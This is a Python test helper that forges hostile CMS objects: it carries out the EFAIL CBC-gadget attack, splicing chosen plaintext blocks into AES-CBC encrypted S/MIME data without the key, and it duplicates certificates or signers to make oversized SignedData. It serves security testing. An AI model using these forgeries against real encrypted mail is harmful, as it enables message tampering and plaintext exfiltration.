#!/usr/bin/env python3
"""cms_forge.py - hostile CMS objects made from captured ones, for
tests/integration/layer_attacks.sh.  Python 3 standard library only.

  cms_forge.py cbc-gadget IN.der KNOWN CHOSEN... > OUT.der
      IN is an EnvelopedData made with AES-CBC (openssl cms -encrypt
      -outform DER), KNOWN the first 16 plaintext bytes.  Without any
      key the ciphertext is rearranged (EFAIL CBC gadgets): the first
      three original blocks (IV, C0, C1, C2: the entity's header), then
      for each CHOSEN block of 16 bytes the pair (X, C0) with
      X = IV ^ KNOWN ^ CHOSEN, which decrypts to one garbage block and
      the chosen block, then the whole original ciphertext again behind
      the IV as a block (one garbage block, then all of the plaintext).
  cms_forge.py dup-certs IN.der N > OUT.der
      IN is a SignedData; its first certificate is repeated until the
      certificates field holds N.
  cms_forge.py dup-signers IN.der N > OUT.der
      The same for its first SignerInfo.

DER is parsed into a tree and written back with definite lengths, so
that the lengths around a changed field stay right.  A CHOSEN block is
given as text with \\r and \\n escapes and must be 16 bytes.
"""
import sys


def parse(b, i=0, end=None):
    """Elements of b[i:end] as [tag, header, content] lists; constructed
    contents are lists of elements, primitive ones bytes."""
    end = len(b) if end is None else end
    out = []
    while i < end:
        tag = b[i]
        j = i + 1
        if tag & 0x1f == 0x1f:
            while b[j] & 0x80:
                j += 1
            j += 1
        tagbytes = b[i:j]
        n = b[j]
        j += 1
        if n == 0x80:
            raise SystemExit("indefinite length: encode with -outform DER")
        if n & 0x80:
            k = n & 0x7f
            n = int.from_bytes(b[j:j + k], "big")
            j += k
        if tag & 0x20:
            out.append([tagbytes, parse(b, j, j + n)])
        else:
            out.append([tagbytes, b[j:j + n]])
        i = j + n
    return out


def length(n):
    if n < 0x80:
        return bytes([n])
    s = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(s)]) + s


def encode(elems):
    out = []
    for tag, c in elems:
        body = encode(c) if isinstance(c, list) else c
        out += [tag, length(len(body)), body]
    return b"".join(out)


def signed_data(tree):
    # ContentInfo SEQUENCE { OID, [0] { SignedData SEQUENCE } }
    return tree[0][1][1][1][0][1]


def cbc_gadget(tree, known, chosen):
    env = tree[0][1][1][1][0][1]  # EnvelopedData's elements
    eci = [e for e in env if e[0] == b"\x30"][-1][1]
    alg = eci[1][1]
    iv = alg[1][1]
    ct = eci[2][1]
    if eci[2][0] != b"\x80" or len(iv) != 16 or len(ct) % 16:
        raise SystemExit("not a definite AES-CBC EnvelopedData")
    blocks = [ct[i:i + 16] for i in range(0, len(ct), 16)]
    x = bytes(a ^ b for a, b in zip(iv, known))
    new = blocks[:3]
    for c in chosen:
        new += [bytes(a ^ b for a, b in zip(x, c)), blocks[0]]
    new += [iv] + blocks
    eci[2][1] = b"".join(new)
    return tree


def dup(tree, what, n):
    sd = signed_data(tree)
    tag = b"\xa0" if what == "certs" else b"\x31"
    # certificates [0] is the only one; signerInfos is the last SET
    # (digestAlgorithms is a SET too).
    field = [e for e in sd if e[0] == tag][-1][1]
    field[:] = [field[0]] * n
    return tree


def block(s):
    b = s.encode("latin-1").decode("unicode_escape").encode("latin-1")
    if len(b) != 16:
        raise SystemExit("a block must be 16 bytes: %r" % b)
    return b


def main(argv):
    if len(argv) < 4:
        raise SystemExit(__doc__)
    tree = parse(open(argv[2], "rb").read())
    if argv[1] == "cbc-gadget":
        tree = cbc_gadget(tree, block(argv[3]), [block(a) for a in argv[4:]])
    elif argv[1] in ("dup-certs", "dup-signers"):
        tree = dup(tree, argv[1][4:], int(argv[3]))
    else:
        raise SystemExit(__doc__)
    sys.stdout.buffer.write(encode(tree))


if __name__ == "__main__":
    main(sys.argv)
